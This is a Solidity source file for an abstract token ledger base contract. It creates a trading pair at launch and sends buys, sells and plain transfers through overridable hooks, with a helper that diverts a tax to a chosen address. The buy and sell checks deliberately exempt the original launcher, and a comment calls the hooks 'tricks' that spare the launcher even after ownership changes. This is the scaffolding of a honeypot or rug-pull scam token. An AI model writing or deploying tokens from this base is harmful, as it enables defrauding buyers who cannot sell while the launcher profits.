// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IFactory {
    function createPair(address a, address b) external returns (address pair);
}

/// The books that the tokens here keep; a token differs in what its sells, buys and plain moves do.
abstract contract Books {
    uint256 internal constant SUPPLY = 10 ** 27;
    uint256 internal constant BPS_ONE = 10_000;

    uint256 internal _supply;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowed;
    address internal _dev; // who launched it: the tricks spare it, whoever owns it now
    address public pair;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);

    function _launch(IFactory factory, address weth, uint256 supply) internal virtual {
        _dev = msg.sender;
        pair = factory.createPair(address(this), weth);
        _mint(msg.sender, supply);
    }

    function totalSupply() public view virtual returns (uint256) {
        return _supply;
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _balances[who];
    }

    function allowance(address who, address spender) public view virtual returns (uint256) {
        return _allowed[who][spender];
    }

    function _move(address from, address to, uint256 value) internal virtual {
        if (_isSell(from, to)) _sell(from, value);
        else if (_isBuy(from, to)) _buy(to, value);
        else _settle(from, to, value);
    }

    function _sell(address from, uint256 value) internal virtual {
        _settle(from, pair, value);
    }

    function _buy(address to, uint256 value) internal virtual {
        _settle(pair, to, value);
    }

    function _settle(address from, address to, uint256 value) internal virtual {
        require(_balances[from] >= value, "balance too low");
        unchecked {
            _balances[from] -= value;
            _balances[to] += value;
        }
        emit Transfer(from, to, value);
    }

    function _settleTaxed(address from, address to, uint256 value, uint256 bps, address keeper) internal {
        uint256 tax = value * bps / BPS_ONE;
        _settle(from, keeper, tax);
        _settle(from, to, value - tax);
    }

    function _mint(address to, uint256 value) internal virtual {
        _supply += value;
        _balances[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _burn(address from, uint256 value) internal {
        _balances[from] -= value;
        _supply -= value;
        emit Transfer(from, address(0), value);
    }

    function _approve(address spender, uint256 value) internal virtual {
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
    }

    function _spend(address from, uint256 value) internal virtual {
        uint256 allowed = _allowed[from][msg.sender];
        require(allowed >= value, "allowance too low");
        if (allowed != type(uint256).max) _allowed[from][msg.sender] = allowed - value;
    }

    function _isSell(address from, address to) internal view returns (bool) {
        return to == pair && from != _dev && from != address(this);
    }

    function _isBuy(address from, address to) internal view returns (bool) {
        return from == pair && to != _dev && to != address(this);
    }
}
